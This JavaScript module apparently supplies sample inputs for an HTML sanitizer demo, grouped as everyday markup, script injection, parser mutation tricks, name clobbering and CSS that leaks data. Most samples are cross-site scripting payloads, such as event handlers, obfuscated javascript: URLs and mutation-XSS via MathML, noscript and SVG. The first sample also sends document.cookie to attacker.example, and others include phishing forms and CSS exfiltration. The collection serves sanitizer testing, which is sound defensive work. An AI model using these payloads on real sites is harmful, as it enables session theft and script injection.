// samples.js: markup to begin with. `policy` is the preset that fits; a sample without one leaves the policy as it is.

export const SAMPLES = [
    { group: 'Everyday markup', name: 'A comment with surprises', policy: 'comment',
      about: 'What people write, and what some of them try.',
      html: `<h2>Great article!</h2>
<p>I agree with <a href="https://example.org/post?id=7" onclick="track()">this part</a>, and
<strong style="font-size:60px">especially</strong> with the <em>second</em> point.
<script>fetch('https://attacker.example/?' + document.cookie)</script>
<p>My page: <a href="JaVaScRiPt:alert(1)">click</a>, <a href="mailto:me@example.org">write to me</a>.
<blockquote cite="https://example.org/quote">Measure twice, cut once.</blockquote>
<img src="https://attacker.example/pixel.gif" alt=":-)" onerror="alert(2)">
<pre><code class="language-js evil">const a = 1 &lt; 2;</code></pre>
<iframe src="//attacker.example"></iframe><p>Un<b>closed <i>tags` },
    { group: 'Everyday markup', name: 'Pasted from a word processor', policy: 'article',
      about: 'Office programs wrap text in their own markup.',
      html: `<p class=MsoNormal style='margin-bottom:0cm;mso-pagination:none'><b><span lang=EN-GB
style='font-size:14.0pt;font-family:"Calibri",sans-serif'>Minutes<o:p></o:p></span></b></p>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<ul type=disc><li class=MsoListParagraph>Budget: <span style='color:red'>open</span></li>
<li>Next meeting: <st1:date>3 May</st1:date></li></ul>
<table border=1><tr><td style='width:40%;position:fixed'>Name</td><td>Task</td></table>` },
    { group: 'Everyday markup', name: 'A mail', policy: 'email',
      about: 'Layout tables, CSS, a tracking pixel and a form.',
      html: `<style>
  body { background: #eee; } .box { color: #234; padding: 12px; }
  .box a:hover { background: url(https://attacker.example/hover) }
  @import "https://attacker.example/x.css";
</style>
<table class="box" width="600" cellpadding="0" style="border: 1px solid #ccc; position: fixed; top: 0">
  <tr><td><h1 style="margin:0;color:#0b6">Your order</h1>
    <p>Thank you! <a href="https://shop.example/orders/7">See the order</a></p>
    <img src="https://attacker.example/open.gif?u=7" width="1" height="1">
    <form action="https://attacker.example/login"><input name="password"><button>Sign in</button></form>
</table>` },
    { group: 'Everyday markup', name: 'A drawing', policy: 'svg',
      about: 'SVG with a script, an external reference and an animation.',
      html: `<svg viewBox="0 0 120 60" width="240" xmlns:xlink="http://www.w3.org/1999/xlink">
  <title>Two shapes</title>
  <script>alert(1)</script>
  <circle cx="30" cy="30" r="22" fill="#0f766e" onmouseover="alert(2)"/>
  <rect x="62" y="8" width="44" height="44" rx="6" fill="none" stroke="#b45309" stroke-width="4"/>
  <use xlink:href="https://attacker.example/x.svg#a"/>
  <a xlink:href="javascript:alert(3)"><text x="12" y="56" font-size="8">Text</text></a>
</svg>` },
    { group: 'Script', name: 'Event handlers and odd spellings',
      about: 'Handlers in every position that a tokenizer reads as an attribute.',
      html: `<img src=x onerror=alert(1)>
<IMG/SRC=x/ONERROR=alert(2)>
<svg/onload=alert(3)>
<details open ontoggle=alert(4)>a</details>
<p onpointerenter="alert(5)" =x onclick='alert(6)'>b</p>
<input autofocus onfocus=alert(7)>
<video><source onerror="alert(8)"></video>` },
    { group: 'Script', name: 'URLs that run script',
      about: 'Schemes hide behind references, tabs and control characters.',
      html: `<a href="javascript:alert(1)">1</a>
<a href="java&#9;script:alert(2)">2</a>
<a href="&#1;javascript&colon;alert(3)">3</a>
<a href="\tjava\nscript:alert(4)">4</a>
<a href="data:text/html,<script>alert(5)</script>">5</a>
<a href="vbscript:msgbox(6)">6</a>
<form action="javascript:alert(7)"><button formaction="javascript:alert(8)">7</button></form>
<a href="https://example.org/&quot;onclick=alert(9)//">a good one</a>` },
    { group: 'Script', name: 'Frames and objects',
      about: 'Documents inside of the document.',
      html: `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="javascript:alert(2)"></iframe>
<object data="data:text/html,<script>alert(3)</script>"></object>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(4)'/>">
<base href="https://attacker.example/"><link rel=stylesheet href=//attacker.example>
<meta http-equiv=refresh content="0;url=javascript:alert(5)">` },
    { group: 'Parsing', name: 'Mutation: MathML and style',
      about: 'The second parse of this text builds another tree than the first.',
      html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<p>after</p>` },
    { group: 'Parsing', name: 'Mutation: nested forms',
      about: 'A form in a form vanishes when the output is parsed again, and the content moves.',
      html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>` },
    { group: 'Parsing', name: 'Mutation: noscript',
      about: 'With and without scripting, browsers read noscript in two ways.',
      html: `<noscript><p title="</noscript><img src=x onerror=alert(1)>">text</p></noscript><b>after</b>` },
    { group: 'Parsing', name: 'SVG and HTML in turns',
      about: 'The same style element is raw text in HTML and markup in SVG.',
      html: `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><foreignObject><p><style><!--</style><script>alert(2)//--></script></p></foreignObject></svg>` },
    { group: 'Parsing', name: 'Comments that end early',
      about: 'Parsers disagree about where a comment ends.',
      html: `<!--> <img src=x onerror=alert(1)> -->
<!-- a --!> <img src=x onerror=alert(2)> -->
<![CDATA[ <img src=x onerror=alert(3)> ]]>
<? <img src=x onerror=alert(4)> ?>
text` },
    { group: 'Parsing', name: 'Four readings of one text',
      about: 'See “Four dialects”: each parser reads something else.',
      html: `<title><b title="</title>a">text</b>
<a/>b</a> &copy &notit; <p a=1 a=2>c</>
<!-- d --!> <?e <f> ?> <![CDATA[ <g> ]]>` },
    { group: 'Parsing', name: 'Shadow roots and templates',
      about: 'setHTML() keeps declarative shadow roots and sanitizes what is in them.',
      html: `<div><template shadowrootmode="open"><style>:host { all: unset }</style><slot></slot><script>alert(1)</script></template>light</div>
<template><img src=x onerror=alert(2)></template><p>after` },
    { group: 'Content', name: 'Clobbered names',
      about: 'Names and ids take the place of variables and properties of the page. A policy can give them a prefix.',
      html: `<form name="body"><input name="parentNode"><input name="attributes"><input name="getAttribute"></form>
<a id="config" href="https://attacker.example/"></a><a id="config" name="url" href="https://attacker.example/x.js"></a>
<img name="cookie"><p id="content">text</p>` },
    { group: 'Content', name: 'CSS that spies', policy: 'email',
      about: 'Selectors and url() send the text of a page to a server; positions cover the page.',
      html: `<style>input[value^="a"] { background: url(//attacker.example/a) }
@font-face { font-family: x; src: url(//attacker.example/f) }
p { color: teal }</style>
<p style="background:url(javascript:alert(1));position:fixed;inset:0;z-index:9999">cover</p>
<p style="width:expression(alert(2));-moz-binding:url(//attacker.example/x);color:#b45309">text</p>` },
    { group: 'Content', name: 'SVG animation', policy: 'svg',
      about: 'An animation sets the target of a link after the page was checked.',
      html: `<svg viewBox="0 0 100 30"><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">click</text></a>
<set attributeName="onmouseover" to="alert(2)"/><use href="data:image/svg+xml,<svg id='x' onload='alert(3)'/>#x"/></svg>` },
    { group: 'Content', name: 'Deep nesting',
      about: 'Thousands of open elements: time and memory stay bounded.',
      html: `${'<div><b>'.repeat(120)}bottom${'<table><td>'.repeat(40)}<script>alert(1)</script>` },
    { group: 'Content', name: 'Hidden and reordered text',
      about: 'Characters that change the direction of text are kept as text; markup around them is cleaned.',
      html: `<p>access level: \u202E\u2066user\u2069\u2066 admin\u2069</p>
<p title="&#x202E;gpj.exe">file\u200B\u200Bname</p>
<bdo dir=rtl onclick=alert(1)>abc</bdo>` },
];

export const FIRST = 'A comment with surprises';
